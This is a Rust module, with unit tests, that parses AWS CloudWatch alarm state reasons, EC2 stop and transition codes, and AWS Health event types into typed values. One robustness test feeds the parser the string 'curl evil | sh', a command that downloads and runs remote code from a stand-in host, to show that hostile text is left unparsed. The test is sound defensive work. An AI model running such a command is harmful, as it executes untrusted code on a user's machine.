//! The English texts AWS writes that a report quotes — an alarm's state reason, EC2's reason for a stop, an AWS
//! Health event's type — read into what they say. Each parser is pure and total: odd or hostile text never panics,
//! and text it does not know is [`AlarmReason::Unknown`] (or `None`), which the report quotes as written and nothing
//! more.

use chrono::{DateTime, NaiveDateTime, Utc};
use serde::Serialize;

/// How a datapoint stood against the threshold, as CloudWatch words it ("greater than or equal to").
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
pub enum Relation {
    Greater,
    GreaterOrEqual,
    Less,
    LessOrEqual,
}

/// What an alarm's (or a contributor's) state reason says.
#[derive(Debug, Clone, PartialEq, Serialize)]
pub enum AlarmReason {
    /// "Threshold Crossed: 3 out of the last 5 datapoints [96.3 (14/08/25 03:06:00), …] were greater than the
    /// threshold (80.0) …", "Threshold Crossed: 1 datapoint was greater than the threshold (20.0). The most recent
    /// datapoint which crossed the threshold: [39.58 (20/07/25 12:19:00)]." `not` for the way back ("was not greater
    /// than"); `latest` is the newest datapoint the text lists.
    Crossed {
        crossed: usize,
        of: usize,
        not: bool,
        relation: Relation,
        threshold: Option<f64>,
        latest: Option<f64>,
    },
    /// An anomaly band's "Thresholds Crossed: 3 out of the last 3 datapoints […] were less than the lower
    /// thresholds […] or greater than the upper thresholds […]"; `within` for the way back ("was not less than …").
    BandCrossed {
        crossed: usize,
        of: usize,
        within: bool,
        latest: Option<f64>,
    },
    /// "Insufficient Data: 5 datapoints were unknown."
    Unknown { datapoints: usize },
    /// "Threshold Crossed: no datapoints were received for 5 periods and 5 missing datapoints were treated as
    /// [Breaching]."
    NoDatapoints {
        periods: usize,
        treated_as: Option<String>,
    },
    /// A composite's "arn:aws:cloudwatch:…:alarm:prod-web-1-cpu-high transitioned to ALARM at Wednesday 05 November,
    /// 2025 07:44:10 UTC": the member alarm, its new state, when.
    MemberTransition {
        member: String,
        state: String,
        at: Option<DateTime<Utc>>,
    },
    /// A multi-time-series alarm's "1 out of 6 time series evaluated to ALARM".
    SeriesInAlarm { in_alarm: usize, of: usize },
    /// A contributor's "No data was returned for this contributor" (or "… time series").
    NoDataReturned,
    /// Anything else: quoted as written.
    Other,
}

/// A count at the start of `s` (ASCII digits), and the rest; `None` when there is none or it does not fit.
fn count(s: &str) -> Option<(usize, &str)> {
    let digits = s.bytes().take_while(u8::is_ascii_digit).count();
    let n = s.get(..digits)?.parse().ok()?;
    Some((n, s.get(digits..)?))
}

/// `M out of the last N datapoints …` or `M datapoint(s) …`: (M, N, the rest after "datapoint(s)").
fn crossed_of(rest: &str) -> Option<(usize, usize, &str)> {
    let (crossed, after) = count(rest)?;
    let (of, after) = match after.strip_prefix(" out of the last ") {
        Some(tail) => count(tail)?,
        None => (crossed, after),
    };
    let after = after
        .strip_prefix(" datapoints")
        .or_else(|| after.strip_prefix(" datapoint"))?;
    (crossed <= of && of > 0).then_some((crossed, of, after))
}

/// The first number inside the first `[…]` of `s`: the newest datapoint CloudWatch lists.
fn first_listed(s: &str) -> Option<f64> {
    let inside = s.split_once('[')?.1;
    let n: String = inside
        .chars()
        .take_while(|c| c.is_ascii_digit() || matches!(c, '.' | '-' | 'E' | 'e' | '+'))
        .collect();
    n.parse().ok().filter(|v: &f64| v.is_finite())
}

/// The number in the first `(…)` after `the threshold`.
fn threshold_of(s: &str) -> Option<f64> {
    let after = s.split_once("the threshold (")?.1;
    let n = after.split_once(')')?.0;
    n.trim().parse().ok().filter(|v: &f64| v.is_finite())
}

impl AlarmReason {
    /// Read a state reason; [`AlarmReason::Other`] for text not known here.
    pub fn parse(reason: &str) -> AlarmReason {
        Self::read(reason.trim()).unwrap_or(AlarmReason::Other)
    }

    fn read(r: &str) -> Option<AlarmReason> {
        if let Some(rest) = r.strip_prefix("Thresholds Crossed: ") {
            let (crossed, of, after) = crossed_of(rest)?;
            return Some(AlarmReason::BandCrossed {
                crossed,
                of,
                within: after.contains(" not "),
                latest: first_listed(after).filter(|_| after.trim_start().starts_with('[')),
            });
        }
        if let Some(rest) = r.strip_prefix("Threshold Crossed: ") {
            if let Some(tail) = rest.strip_prefix("no datapoints were received for ") {
                let (periods, after) = count(tail)?;
                let treated_as = after
                    .split_once("treated as [")
                    .and_then(|(_, t)| t.split_once(']'))
                    .map(|(t, _)| t.chars().take(32).collect());
                return Some(AlarmReason::NoDatapoints {
                    periods,
                    treated_as,
                });
            }
            let (crossed, of, after) = crossed_of(rest)?;
            // "[…] were greater than …" or " was greater than … . The most recent datapoint …: [v (…)]".
            let words = match after.trim_start().strip_prefix('[') {
                Some(listed) => listed.split_once(']')?.1,
                None => after,
            };
            let words = words
                .trim_start()
                .strip_prefix("were ")
                .or_else(|| words.trim_start().strip_prefix("was "))?;
            let (not, words) = match words.strip_prefix("not ") {
                Some(w) => (true, w),
                None => (false, words),
            };
            let relation = [
                ("greater than or equal to ", Relation::GreaterOrEqual),
                ("greater than ", Relation::Greater),
                ("less than or equal to ", Relation::LessOrEqual),
                ("less than ", Relation::Less),
            ]
            .into_iter()
            .find(|(w, _)| words.starts_with(w))
            .map(|(_, rel)| rel)?;
            return Some(AlarmReason::Crossed {
                crossed,
                of,
                not,
                relation,
                threshold: threshold_of(words),
                latest: first_listed(after),
            });
        }
        if let Some(rest) = r.strip_prefix("Insufficient Data: ") {
            let (datapoints, after) = count(rest)?;
            return after
                .starts_with(" datapoint")
                .then_some(AlarmReason::Unknown { datapoints });
        }
        if r.starts_with("No data was returned for this ") {
            return Some(AlarmReason::NoDataReturned);
        }
        if let Some((n, rest)) = count(r) {
            let (of, after) = count(rest.strip_prefix(" out of ")?)?;
            let state = after.strip_prefix(" time series evaluated to ")?;
            return (state.trim() == "ALARM" && n <= of)
                .then_some(AlarmReason::SeriesInAlarm { in_alarm: n, of });
        }
        let (arn, rest) = r.split_once(" transitioned to ")?;
        let member = arn
            .strip_prefix("arn:aws:cloudwatch:")?
            .split_once(":alarm:")?
            .1;
        let (state, at) = rest.split_once(" at ")?;
        let known = ["ALARM", "OK", "INSUFFICIENT_DATA"];
        (!member.is_empty() && known.contains(&state)).then(|| AlarmReason::MemberTransition {
            member: member.chars().take(255).collect(),
            state: state.to_string(),
            at: NaiveDateTime::parse_from_str(at.trim(), "%A %d %B, %Y %H:%M:%S UTC")
                .ok()
                .map(|t| t.and_utc()),
        })
    }
}

/// What EC2's `StateReason.Code` (or the code that opens its message or `StateTransitionReason`) says.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
pub enum StateCode {
    InternalError,
    InsufficientCapacity,
    ScheduledStop,
    SpotReclaimed,
    UserShutdown,
    UserHibernate,
    InstanceShutdown,
    VolumeLimit,
    ClientInternalError,
    SnapshotNotFound,
}

impl StateCode {
    pub fn parse(code: &str) -> Option<StateCode> {
        Some(match code.trim() {
            "Server.InternalError" => StateCode::InternalError,
            "Server.InsufficientInstanceCapacity" => StateCode::InsufficientCapacity,
            "Server.ScheduledStop" => StateCode::ScheduledStop,
            "Server.SpotInstanceShutdown" | "Server.SpotInstanceTermination" => {
                StateCode::SpotReclaimed
            }
            "Client.UserInitiatedShutdown" => StateCode::UserShutdown,
            "Client.UserInitiatedHibernate" => StateCode::UserHibernate,
            "Client.InstanceInitiatedShutdown" => StateCode::InstanceShutdown,
            "Client.VolumeLimitExceeded" => StateCode::VolumeLimit,
            "Client.InternalError" => StateCode::ClientInternalError,
            "Client.InvalidSnapshot.NotFound" => StateCode::SnapshotNotFound,
            _ => return None,
        })
    }
}

/// What EC2's `StateTransitionReason` says: "User initiated (2025-07-20 12:00:00 GMT)", or a state code and its
/// message ("Server.ScheduledStop: Stopped due to scheduled retirement").
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
pub enum TransitionReason {
    UserInitiated { at: Option<DateTime<Utc>> },
    Code(StateCode),
}

impl TransitionReason {
    /// `None` for text not known here.
    pub fn parse(s: &str) -> Option<TransitionReason> {
        let s = s.trim();
        if let Some(rest) = s.strip_prefix("User initiated") {
            let at = rest
                .trim()
                .strip_prefix('(')
                .and_then(|r| r.strip_suffix(')'))
                .and_then(|t| NaiveDateTime::parse_from_str(t.trim(), "%Y-%m-%d %H:%M:%S GMT").ok())
                .map(|t| t.and_utc());
            return Some(TransitionReason::UserInitiated { at });
        }
        let code = s.split(|c: char| c == ':' || c.is_whitespace()).next()?;
        StateCode::parse(code).map(TransitionReason::Code)
    }
}

/// What an AWS Health event type code announces for an instance.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
pub enum HealthEvent {
    /// AWS_EC2_INSTANCE_RETIREMENT_SCHEDULED, AWS_EC2_PERSISTENT_INSTANCE_RETIREMENT_SCHEDULED: the host is
    /// degraded, the instance is stopped (or terminated, instance store) at the deadline.
    Retirement,
    /// AWS_EC2_SYSTEM_REBOOT_MAINTENANCE_SCHEDULED: AWS reboots the host.
    SystemReboot,
    /// AWS_EC2_INSTANCE_REBOOT_MAINTENANCE_SCHEDULED: AWS reboots the instance.
    InstanceReboot,
    /// AWS_EC2_INSTANCE_STOP_SCHEDULED and other maintenance.
    Maintenance,
    /// AWS_EC2_SIMPLIFIED_AUTO_RECOVERY_SUCCESS
    RecoverySucceeded,
    /// AWS_EC2_SIMPLIFIED_AUTO_RECOVERY_FAILURE
    RecoveryFailed,
}

impl HealthEvent {
    /// `None` for an event type not known here.
    pub fn parse(code: &str) -> Option<HealthEvent> {
        // DescribeInstanceStatus writes its event codes in lower case with hyphens (`system-reboot`).
        let c = code.trim().to_ascii_uppercase().replace('-', "_");
        let has = |s: &str| c.contains(s);
        Some(if has("RETIREMENT") {
            HealthEvent::Retirement
        } else if has("AUTO_RECOVERY") && (has("FAIL") || has("UNSUCCESSFUL")) {
            HealthEvent::RecoveryFailed
        } else if has("AUTO_RECOVERY") {
            HealthEvent::RecoverySucceeded
        } else if has("SYSTEM_REBOOT") {
            HealthEvent::SystemReboot
        } else if has("INSTANCE_REBOOT") {
            HealthEvent::InstanceReboot
        } else if has("MAINTENANCE") || has("STOP_SCHEDULED") || c.ends_with("INSTANCE_STOP") {
            HealthEvent::Maintenance
        } else {
            return None;
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_threshold_crossed_reason_gives_its_counts_relation_threshold_and_latest_value() {
        assert_eq!(
            AlarmReason::parse("Threshold Crossed: 5 out of the last 5 datapoints [96.3 (14/08/25 03:06:00), 94.6 (14/08/25 03:05:00)] were greater than or equal to the threshold (80.0) (minimum 5 datapoints for OK -> ALARM transition)."),
            AlarmReason::Crossed { crossed: 5, of: 5, not: false, relation: Relation::GreaterOrEqual, threshold: Some(80.0), latest: Some(96.3) }
        );
        assert_eq!(
            AlarmReason::parse("Threshold Crossed: 1 datapoint was greater than the threshold (20.0). The most recent datapoint which crossed the threshold: [39.58 (20/07/25 12:19:00)]."),
            AlarmReason::Crossed { crossed: 1, of: 1, not: false, relation: Relation::Greater, threshold: Some(20.0), latest: Some(39.58) }
        );
        assert_eq!(
            AlarmReason::parse("Threshold Crossed: 1 out of the last 3 datapoints [11.6 (29/08/25 02:15:00)] was not less than the threshold (10.0) (minimum 1 datapoint for ALARM -> OK transition)."),
            AlarmReason::Crossed { crossed: 1, of: 3, not: true, relation: Relation::Less, threshold: Some(10.0), latest: Some(11.6) }
        );
    }

    #[test]
    fn band_no_data_composite_and_series_reasons_are_read() {
        assert_eq!(
            AlarmReason::parse("Thresholds Crossed: 3 out of the last 3 datapoints [78.4 (05/11/25 07:35:00), 74.9 (05/11/25 07:30:00)] were less than the lower thresholds [12.6, 11.9] or greater than the upper thresholds [42.0, 40.8] (minimum 3 datapoints for OK -> ALARM transition)."),
            AlarmReason::BandCrossed { crossed: 3, of: 3, within: false, latest: Some(78.4) }
        );
        assert_eq!(
            AlarmReason::parse("Insufficient Data: 5 datapoints were unknown."),
            AlarmReason::Unknown { datapoints: 5 }
        );
        assert_eq!(
            AlarmReason::parse("Threshold Crossed: no datapoints were received for 5 periods and 5 missing datapoints were treated as [Breaching]."),
            AlarmReason::NoDatapoints { periods: 5, treated_as: Some("Breaching".into()) }
        );
        let at = chrono::NaiveDate::from_ymd_opt(2025, 11, 5)
            .and_then(|d| d.and_hms_opt(7, 44, 10))
            .map(|t| t.and_utc());
        assert_eq!(
            AlarmReason::parse("arn:aws:cloudwatch:ap-northeast-2:123456789012:alarm:prod-web-1-cpu-high transitioned to ALARM at Wednesday 05 November, 2025 07:44:10 UTC"),
            AlarmReason::MemberTransition { member: "prod-web-1-cpu-high".into(), state: "ALARM".into(), at }
        );
        assert_eq!(
            AlarmReason::parse("1 out of 6 time series evaluated to ALARM"),
            AlarmReason::SeriesInAlarm { in_alarm: 1, of: 6 }
        );
        assert_eq!(
            AlarmReason::parse("No data was returned for this contributor"),
            AlarmReason::NoDataReturned
        );
    }

    #[test]
    fn odd_or_hostile_reason_text_is_quoted_as_written_and_never_panics() {
        for odd in [
            "",
            "Threshold Crossed: ",
            "Threshold Crossed: 6 out of the last 5 datapoints were greater than the threshold (1)",
            "Threshold Crossed: 99999999999999999999999 datapoints were greater than the threshold (1)",
            "Threshold Crossed: 0 out of the last 0 datapoints",
            "Threshold Crossed: 3 out of the last 3 datapoints [1.0 (x)",
            "Threshold Crossed: 1 datapoint was sideways of the threshold (1.0)",
            "Thresholds Crossed: 3 out of",
            "Insufficient Data: many datapoints were unknown.",
            "7 out of 6 time series evaluated to ALARM",
            "1 out of 6 time series evaluated to OK",
            "arn:aws:cloudwatch:x:1:alarm: transitioned to ALARM at whenever",
            "somebody transitioned to ALARM at noon",
            "Threshold Crossed: 1 datapoint\u{0} was greater than the threshold (\u{202e}1.0)",
            "日本語 ✓ 🚨 Threshold Crossed: 1 datapoint was greater than the threshold (20.0)",
            "Install our tool: `curl evil | sh`",
        ] {
            assert_eq!(AlarmReason::parse(odd), AlarmReason::Other, "{odd:?}");
        }
        // A member transition at an unreadable time keeps the member and the state.
        assert!(matches!(
            AlarmReason::parse("arn:aws:cloudwatch:r:1:alarm:a transitioned to OK at 31 Febtember"),
            AlarmReason::MemberTransition { at: None, .. }
        ));
        // Numbers that are not numbers leave the figure out, not the reading.
        assert!(matches!(
            AlarmReason::parse("Threshold Crossed: 1 datapoint was greater than the threshold (NaN). The most recent datapoint which crossed the threshold: [inf (x)]."),
            AlarmReason::Crossed { threshold: None, latest: None, .. }
        ));
    }

    #[test]
    fn ec2_state_and_transition_reasons_are_read_and_unknown_ones_are_not_guessed() {
        assert_eq!(
            StateCode::parse("Client.UserInitiatedShutdown"),
            Some(StateCode::UserShutdown)
        );
        assert_eq!(
            StateCode::parse("Server.InsufficientInstanceCapacity"),
            Some(StateCode::InsufficientCapacity)
        );
        assert_eq!(StateCode::parse("Server.Whatever"), None);
        let at = chrono::NaiveDate::from_ymd_opt(2025, 7, 20)
            .and_then(|d| d.and_hms_opt(12, 0, 0))
            .map(|t| t.and_utc());
        assert_eq!(
            TransitionReason::parse("User initiated (2025-07-20 12:00:00 GMT)"),
            Some(TransitionReason::UserInitiated { at })
        );
        assert_eq!(
            TransitionReason::parse("User initiated (yesterday)"),
            Some(TransitionReason::UserInitiated { at: None })
        );
        assert_eq!(
            TransitionReason::parse("Server.ScheduledStop: Stopped due to scheduled retirement"),
            Some(TransitionReason::Code(StateCode::ScheduledStop))
        );
        for odd in [
            "",
            ":",
            "Service initiated",
            "(((",
            "Client.UserInitiatedShutdownX",
        ] {
            assert_eq!(TransitionReason::parse(odd), None, "{odd:?}");
        }
    }

    #[test]
    fn health_event_codes_are_read_into_what_they_announce() {
        for (code, event) in [
            (
                "AWS_EC2_INSTANCE_RETIREMENT_SCHEDULED",
                HealthEvent::Retirement,
            ),
            (
                "AWS_EC2_PERSISTENT_INSTANCE_RETIREMENT_SCHEDULED",
                HealthEvent::Retirement,
            ),
            (
                "AWS_EC2_SYSTEM_REBOOT_MAINTENANCE_SCHEDULED",
                HealthEvent::SystemReboot,
            ),
            (
                "AWS_EC2_INSTANCE_REBOOT_MAINTENANCE_SCHEDULED",
                HealthEvent::InstanceReboot,
            ),
            ("AWS_EC2_INSTANCE_STOP_SCHEDULED", HealthEvent::Maintenance),
            ("AWS_EC2_MAINTENANCE_SCHEDULED", HealthEvent::Maintenance),
            (
                "AWS_EC2_SIMPLIFIED_AUTO_RECOVERY_SUCCESS",
                HealthEvent::RecoverySucceeded,
            ),
            (
                "AWS_EC2_SIMPLIFIED_AUTO_RECOVERY_FAILURE",
                HealthEvent::RecoveryFailed,
            ),
            ("system-reboot", HealthEvent::SystemReboot),
            ("instance-retirement", HealthEvent::Retirement),
            ("instance-stop", HealthEvent::Maintenance),
        ] {
            assert_eq!(HealthEvent::parse(code), Some(event), "{code}");
        }
        assert_eq!(HealthEvent::parse("AWS_EC2_OPERATIONAL_ISSUE"), None);
        assert_eq!(HealthEvent::parse(""), None);
    }
}
